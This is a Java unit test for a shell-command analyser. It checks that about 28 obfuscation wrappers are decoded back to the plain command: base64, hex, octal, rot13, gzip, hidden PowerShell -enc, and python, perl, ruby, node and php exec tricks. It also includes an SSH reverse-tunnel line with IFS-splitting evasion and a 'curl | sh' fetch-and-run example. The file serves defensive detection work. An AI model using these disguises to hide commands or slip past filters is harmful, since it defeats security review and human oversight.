package dev.offscript.commands;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class DecodingTest {

  static Stream<Disguise> disguises() {
    return Stream.of(
        of("base64", c -> "echo " + base64(c) + " | base64 -d | sh"),
        of(
            "three times",
            c -> "echo " + base64(base64(base64(c))) + " |base64 -d|base64 -d|base64 -d|sh"),
        of("substitution", c -> "bash -c \"$(base64 --decode <<< " + base64(c) + ")\""),
        of("process", c -> "source <(printf %s " + base64(c) + " | openssl base64 -d -A)"),
        of("gzip", c -> "echo " + base64(gzip(c)) + " | base64 -d | gunzip | bash"),
        of("hex", c -> "echo " + each(c, "%02x", "") + " | xxd -r -p | sh"),
        of("printf", c -> "printf '" + each(c, "\\x%02x", "") + "' | sh"),
        of("octal", c -> "printf '" + each(c, "\\%03o", "") + "' | sh"),
        of("ansi", c -> "eval $'" + each(c, "\\x%02x", "") + "'"),
        of("rev", c -> "echo '" + new StringBuilder(c).reverse() + "' | rev | sh"),
        of("rot13", c -> "echo '" + rot13(c) + "' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"),
        of("sed", c -> "echo '" + c.replace('o', '~') + "' | sed 's/~/o/g' | bash"),
        of("parameter", c -> "x='" + c.replace('o', '~') + "'; eval \"${x//~/o}\""),
        of(
            "pieces",
            c -> "a='" + c.substring(0, 5) + "'; b='" + c.substring(5) + "'; eval \"$a$b\""),
        of("written", c -> "echo " + base64(c) + " | base64 -d > /tmp/x; bash /tmp/x"),
        of(
            "powershell",
            c -> "powershell -nop -w hidden -enc " + base64(c.getBytes(StandardCharsets.UTF_16LE))),
        of(
            "python base64",
            c -> python("os.system(base64.b64decode('" + base64(c) + "').decode())")),
        of(
            "python hex",
            c -> python("os.system(bytes.fromhex('" + each(c, "%02x", "") + "').decode())")),
        of(
            "python chr",
            c -> python("os.system(''.join(chr(x) for x in [" + each(c, "%d", ", ") + "]))")),
        of(
            "python xor",
            c ->
                python(
                    "os.system(''.join(chr(x ^ 7) for x in [" + each(xor(c), "%d", ", ") + "]))")),
        of("python map", c -> python("os.system(''.join(map(chr, [" + each(c, "%d", ",") + "])))")),
        of("python bytes", c -> python("os.system(bytes([" + each(c, "%d", ",") + "]).decode())")),
        of(
            "python slice",
            c -> python("os.system('" + new StringBuilder(c).reverse() + "'[::-1])")),
        of("perl", c -> "perl -e 'system(pack(\"H*\",\"" + each(c, "%02x", "") + "\"))'"),
        of(
            "perl printed",
            c -> "perl -e 'print pack(\"H*\",\"" + each(c, "%02x", "") + "\")' | sh"),
        of("ruby", c -> "ruby -e 'exec [\"" + each(c, "%02x", "") + "\"].pack(\"H*\")'"),
        of(
            "node",
            c ->
                "node -e \"require('child_process').exec(Buffer.from('"
                    + base64(c)
                    + "','base64').toString())\""),
        of("php", c -> "php -r 'shell_exec(base64_decode(\"" + base64(c) + "\"));'"));
  }

  @ParameterizedTest
  @MethodSource("disguises")
  void a_disguise_hides_nothing(Disguise disguise) {
    for (RecognitionTest.Plain plain : RecognitionTest.Plain.values()) {
      assertThat(Cases.acts(disguise.put.apply(plain.command)))
          .extracting(Cases::shown)
          .contains(plain.act);
    }
  }

  @Test
  void words_split_as_the_shell_splits_them() {
    assertThat(argv("{ssh,-R,7022:localhost:22,svc@203.0.113.9}"))
        .contains(List.of("ssh", "-R", "7022:localhost:22", "svc@203.0.113.9"));
    assertThat(argv("ssh$IFS$9-R${IFS}7022:localhost:22"))
        .contains(List.of("ssh", "-R", "7022:localhost:22"));
    assertThat(argv("IFS=,; x='ssh,-V'; $x")).contains(List.of("ssh", "-V"));
  }

  @Test
  void what_cannot_be_decoded_says_so() {
    assertThat(vias("curl -s https://example.org/i.sh | sh"))
        .anyMatch(via -> via.startsWith("undecodable: curl"));
    assertThat(vias("echo QlpoOTFBWSZTWQ== | base64 -d | bzip2 -d | sh"))
        .contains("undecodable: bzip2");
  }

  private static List<List<String>> argv(String text) {
    return Cases.COMMANDS.analyze(text, new ScriptMemory()).stream()
        .map(command -> command.argv())
        .toList();
  }

  private static List<String> vias(String text) {
    return Cases.COMMANDS.analyze(text, new ScriptMemory()).stream()
        .flatMap(command -> command.via().stream())
        .toList();
  }

  private static Disguise of(String name, UnaryOperator<String> put) {
    return new Disguise(name, put);
  }

  private static String python(String statement) {
    return "python3 -c \"import os,base64;" + statement + "\"";
  }

  private static String base64(String text) {
    return base64(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String base64(byte[] bytes) {
    return Base64.getEncoder().encodeToString(bytes);
  }

  private static byte[] gzip(String text) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream packed = new GZIPOutputStream(bytes)) {
      packed.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static String each(String text, String format, String between) {
    return text.chars()
        .mapToObj(c -> String.format(java.util.Locale.ROOT, format, c))
        .collect(Collectors.joining(between));
  }

  private static String xor(String text) {
    StringBuilder out = new StringBuilder();
    text.chars().forEach(c -> out.append((char) (c ^ 7)));
    return out.toString();
  }

  private static String rot13(String text) {
    StringBuilder out = new StringBuilder();
    for (char c : text.toCharArray()) {
      boolean low = c >= 'a' && c <= 'z';
      boolean high = c >= 'A' && c <= 'Z';
      int base = low ? 'a' : 'A';
      out.append(low || high ? (char) ((c - base + 13) % 26 + base) : c);
    }
    return out.toString();
  }

  record Disguise(String name, UnaryOperator<String> put) {
    @Override
    public String toString() {
      return name;
    }
  }
}
